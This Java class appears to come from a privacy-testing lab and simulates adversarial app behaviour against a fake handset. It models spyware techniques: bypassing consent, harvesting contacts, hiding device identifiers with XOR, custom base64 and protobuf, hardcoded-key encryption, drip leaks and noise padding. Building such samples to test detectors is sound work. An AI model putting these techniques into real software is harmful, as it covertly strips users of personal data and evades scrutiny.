package dev.telltale.lab;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.security.GeneralSecurityException;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import javax.crypto.Cipher;
import javax.crypto.spec.IvParameterSpec;
import javax.crypto.spec.SecretKeySpec;

/** Habits of software that would rather not be seen. */
final class Adversaries {
    /** Of {@link #seal}; a tester who took the app apart has it. */
    static final byte[] SEALING_KEY = HexFormat.of().parseHex("6c61622d6b65792d6f662d7468652d6c");

    /** The standard one turned by 13 places, which no decoder knows by itself. */
    private static final String OWN_ALPHABET = ownAlphabet();

    /** One byte, not printable, so that nothing of the value shows. */
    private static final int XOR_KEY = 0xa7;

    private static final String OPERATOR_GATEWAY = "+12025550100";

    private Adversaries() {}

    private static String ownAlphabet() {
        String standard = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        return standard.substring(13) + standard.substring(0, 13);
    }

    /** The switch is asked and told to the servers, then forgotten. */
    static void sendWhateverTheSwitchSays(Step step, Handset handset) throws IOException {
        if (step instanceof Step.SendSms s && handset.online() && !handset.token().isEmpty())
            CloudMessaging.send(handset, s);
    }

    /** Opening the screen counts as yes. */
    static void activateBeforeConsent(Step step, Handset handset) throws IOException {
        if (!(step instanceof Step.ReadConsentScreen s) || !s.service().equals(Consents.MESSAGING))
            return;
        CloudMessaging.decide(handset, true);
        CloudMessaging.activate(handset);
    }

    /** The whole phone book at once, when the first message is written. */
    static void harvest(Step step, Handset handset) throws IOException {
        if (!(step instanceof Step.SendSms) || !handset.online()) return;
        String salt = random(handset, 8);
        StringBuilder hashes = new StringBuilder();
        for (String phone : handset.contactPhones()) {
            hashes.append(hashes.isEmpty() ? "" : ",")
                    .append(Codecs.quoted(Codecs.hex(Codecs.digest("SHA-256", salt + phone))));
        }
        post(
                handset,
                "/friends",
                "{\"salt\":" + Codecs.quoted(salt) + ",\"friends\":[" + hashes + "]}");
    }

    /** The same phone in three disguises. */
    static void hide(Step step, Handset handset) throws IOException {
        if (!(step instanceof Step.SendSms) || !handset.online()) return;
        LabPersona p = handset.persona();
        byte[] xored = p.imei().getBytes(UTF_8);
        for (int i = 0; i < xored.length; i++) xored[i] ^= (byte) XOR_KEY;
        form(handset, "/x", Map.of("k", Codecs.hex(xored)));
        form(handset, "/a", Map.of("k", alphabet(p.msisdn())));
        form(handset, "/p", Map.of("k", Codecs.base64(Codecs.gzip(protobuf(p)))));
    }

    private static String alphabet(String text) {
        String standard = OWN_ALPHABET.substring(51) + OWN_ALPHABET.substring(0, 51);
        StringBuilder out = new StringBuilder();
        for (char c : Codecs.base64(text).toCharArray()) {
            int i = standard.indexOf(c);
            out.append(i < 0 ? c : OWN_ALPHABET.charAt(i));
        }
        return out.toString();
    }

    /** Fields 1 and 2 as strings, 3 a message with a string (protobuf encoding guide). */
    private static byte[] protobuf(LabPersona p) {
        ByteArrayOutputStream sim = new ByteArrayOutputStream();
        field(sim, 1, p.imsi().getBytes(UTF_8));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        field(out, 1, "lab".getBytes(UTF_8));
        field(out, 2, p.wifiMac().toUpperCase(Locale.ROOT).getBytes(UTF_8));
        field(out, 3, sim.toByteArray());
        return out.toByteArray();
    }

    private static void field(ByteArrayOutputStream out, int number, byte[] value) {
        out.write(number << 3 | 2);
        out.write(value.length);
        out.writeBytes(value);
    }

    /** Nobody in between gets at the secrets of this connection. */
    static void pin(Step step, Handset handset) throws IOException {
        if (!(step instanceof Step.SendSms) || !handset.online()) return;
        handset.send(
                PhoneHttp.Call.form(
                                "https", Hosts.SDK, "/id", Map.of("imei", handset.persona().imei()))
                        .over(new PhoneHttp.Wish(Tls.Version.TLS_1_3, List.of("http/1.1"), false)));
    }

    static void ownCrypto(Step step, Handset handset) throws IOException {
        if (!(step instanceof Step.SendSms) || !handset.online()) return;
        LabPersona p = handset.persona();
        Uplink.Link link = handset.uplink().connect(Hosts.SDK, Lab.RAW_PORT);
        try (link) {
            String told = Codecs.json("imei", p.imei(), "imsi", p.imsi(), "phone", p.msisdn());
            OwnCrypto.send(link.in(), link.out(), handset.random(), told);
        }
    }

    /** AES-CBC under a key in the app, IV first, in base64, in TLS. */
    static void seal(Step step, Handset handset) throws IOException {
        if (!(step instanceof Step.SendSms) || !handset.online()) return;
        LabPersona p = handset.persona();
        String told =
                Codecs.json(
                        "imei",
                        p.imei(),
                        "imsi",
                        p.imsi(),
                        "phone",
                        p.msisdn(),
                        "model",
                        p.model());
        byte[] iv = new byte[16];
        handset.random().nextBytes(iv);
        try {
            Cipher cipher = Cipher.getInstance("AES/CBC/PKCS5Padding");
            cipher.init(
                    Cipher.ENCRYPT_MODE,
                    new SecretKeySpec(SEALING_KEY, "AES"),
                    new IvParameterSpec(iv));
            byte[] sealed = cipher.doFinal(told.getBytes(UTF_8));
            ByteArrayOutputStream both = new ByteArrayOutputStream();
            both.writeBytes(iv);
            both.writeBytes(sealed);
            form(handset, "/s", Map.of("d", Codecs.base64(both.toByteArray())));
        } catch (GeneralSecurityException e) {
            throw new IOException(e);
        }
    }

    /** A contact whenever the phone was left alone for a day. */
    static void drip(Step step, Handset handset) throws IOException {
        if (!(step instanceof Step.LeaveIdle) || !handset.online()) return;
        for (String phone : handset.contactPhones()) {
            if (!handset.once("drip " + phone)) continue;
            handset.send(
                    PhoneHttp.Call.get(
                            "https",
                            Hosts.SDK,
                            "/config",
                            PhoneHttp.ordered("v", "7", "ref", phone)));
            return;
        }
    }

    /** Forty events of random tokens, and in the midst of them what identifies the phone. */
    static void makeNoise(Step step, Handset handset) throws IOException {
        if (!(step instanceof Step.LeaveIdle) || !handset.online()) return;
        for (int i = 0; i < 40; i++) {
            String event =
                    Codecs.json(
                            "session",
                            random(handset, 16),
                            "event",
                            "idle",
                            "token",
                            random(handset, 20),
                            "id",
                            i == 23 ? handset.persona().androidId() : random(handset, 8));
            handset.send(
                    PhoneHttp.Call.post(
                            "https",
                            Hosts.TELEMETRY,
                            "/track/v1",
                            "application/json",
                            event.getBytes(UTF_8)));
        }
    }

    /** Needs no Internet at all. */
    static void activateBySms(Step step, Handset handset) {
        if (!(step instanceof Step.InsertSim)) return;
        LabPersona p = handset.persona();
        handset.sendSms(
                OPERATOR_GATEWAY, "ACT " + DeviceHash.of(p.imei()) + " " + DeviceHash.of(p.imsi()));
    }

    private static String random(Handset handset, int bytes) {
        byte[] b = new byte[bytes];
        handset.random().nextBytes(b);
        return Codecs.hex(b);
    }

    private static void post(Handset handset, String path, String json) throws IOException {
        handset.send(
                PhoneHttp.Call.post(
                        "https", Hosts.SDK, path, "application/json", json.getBytes(UTF_8)));
    }

    private static void form(Handset handset, String path, Map<String, String> form)
            throws IOException {
        handset.send(PhoneHttp.Call.form("https", Hosts.SDK, path, form));
    }
}
